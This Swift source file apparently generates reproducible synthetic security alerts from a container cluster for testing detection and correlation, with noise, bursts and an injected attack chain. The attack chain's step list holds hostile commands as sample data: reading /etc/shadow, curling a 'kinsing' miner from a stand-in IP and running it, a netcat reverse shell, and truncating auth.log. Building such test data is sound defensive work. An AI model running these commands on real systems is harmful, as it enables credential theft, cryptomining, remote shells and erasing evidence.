// SPDX-License-Identifier: Apache-2.0
public import AlertModel

/// What to make: the same settings give the same alerts, byte for byte, on any machine.
public struct GeneratorSettings: Sendable {
    public var seed: UInt64 = 1
    public var count = 10_000
    public var hosts = 5
    public var containersPerHost = 8
    /// Mean alerts a second of event time.
    public var rate: Double = 50
    /// Event time just before the first alert, ns since 1970.
    public var start = standardStart.nanoseconds
    /// An attack runs through one container after about every so many alerts; 0 for none.
    public var attackEvery = 5_000

    /// 2026-01-01T00:00:00Z.
    public static let standardStart = EventTime(nanoseconds: 1_767_225_600_000_000_000)

    public init() {}
}

/// A stream of realistic alerts: weighted background noise, bursts of repeats, and now and then an attack in one container.
public struct AlertStream: Sequence, IteratorProtocol, Sendable {
    private let settings: GeneratorSettings
    private let cluster: Cluster
    private let weightSum: Int
    private var random: SplitMix
    private var made = 0
    private var time: Int64
    private var burst: Burst?
    private var attack: [AttackChain.Step] = []
    private var victim: Cluster.Workload?

    public init(_ settings: GeneratorSettings) {
        self.settings = settings
        random = SplitMix(seed: settings.seed)
        cluster = Cluster(
            hosts: Swift.max(1, settings.hosts), containersPerHost: Swift.max(1, settings.containersPerHost),
            random: &random)
        weightSum = GeneratedRule.catalogue.reduce(0) { $0 + $1.weight }
        time = settings.start
    }

    public mutating func next() -> GeneratedAlert? {
        guard made < settings.count else { return nil }
        made += 1
        if settings.attackEvery > 0, made % settings.attackEvery == settings.attackEvery / 2, let target = container() {
            victim = target
            attack = AttackChain.steps
        }
        if let victim, !attack.isEmpty, random.onceIn(3) {
            advance(by: 0.4)
            let step = attack.removeFirst()
            return AlertText.alert(GeneratedRule.named(step.rule), victim, time, step.details, &random)
        }
        if let running = burst {
            advance(by: 0.05)
            burst = running.left > 1 ? running.shorter : nil
            return AlertText.alert(running.rule, running.workload, time, running.details, &random)
        }
        // Three of five alerts come in bursts, almost at once: this makes up for them.
        advance(by: 2.5)
        let rule = weightedRule()
        let workload = random.pick(cluster.workloads)
        let details = AlertText.details(rule, &random)
        if random.onceIn(40), rule.weight >= 4 {
            burst = Burst(rule: rule, workload: workload, details: details, left: 5 + random.below(120))
        }
        return AlertText.alert(rule, workload, time, details, &random)
    }

    /// One thing happening again and again in one place, differing only in process ids and ports.
    private struct Burst: Sendable {
        let rule: GeneratedRule
        let workload: Cluster.Workload
        let details: AlertText.Details
        let left: Int

        var shorter: Burst { Burst(rule: rule, workload: workload, details: details, left: left - 1) }
    }

    private mutating func advance(by share: Double) {
        let mean = 1_000_000_000 / Swift.max(settings.rate, 0.001) * share
        // Evenly between 0 and twice the mean: no logarithm, whose last bit differs between libraries.
        let step = 1 + Int64(Double(random.below(1_000_000)) / 1_000_000 * 2 * mean)
        // At the end of time (2262) it stands still.
        let (sum, overflow) = time.addingReportingOverflow(step)
        time = overflow ? .max : sum
    }

    private mutating func weightedRule() -> GeneratedRule {
        var place = random.below(weightSum)
        for rule in GeneratedRule.catalogue {
            place -= rule.weight
            if place < 0 { return rule }
        }
        return GeneratedRule.catalogue[0]
    }

    private mutating func container() -> Cluster.Workload? {
        let containers = cluster.workloads.filter { $0.container != "host" }
        return containers.isEmpty ? nil : random.pick(containers)
    }
}

/// An attack in one container, step by step: what a correlation should find among the noise.
enum AttackChain {
    struct Step: Sendable {
        let rule: String
        let details: AlertText.Details

        init(_ rule: String, _ command: String = "", file: String = "") {
            self.rule = rule
            details = AlertText.Details(command: command, file: file)
        }
    }

    static let steps: [Step] = [
        Step("Attach/Exec Pod"),
        Step("Terminal shell in container", "bash -i"),
        Step("Read sensitive file untrusted", "cat /etc/shadow", file: "/etc/shadow"),
        Step("Unexpected outbound connection", "curl -s http://203.0.113.66/kinsing -o /tmp/.x/kinsing"),
        Step("Drop and execute new binary in container", "/tmp/.x/kinsing --pool 203.0.113.66:3333"),
        Step("Redirect STDOUT/STDIN to Network Connection in Container", "nc 203.0.113.66 4444 -e /bin/sh"),
        Step("Clear Log Activities", "truncate -s 0 /var/log/auth.log", file: "/var/log/auth.log"),
    ]
}
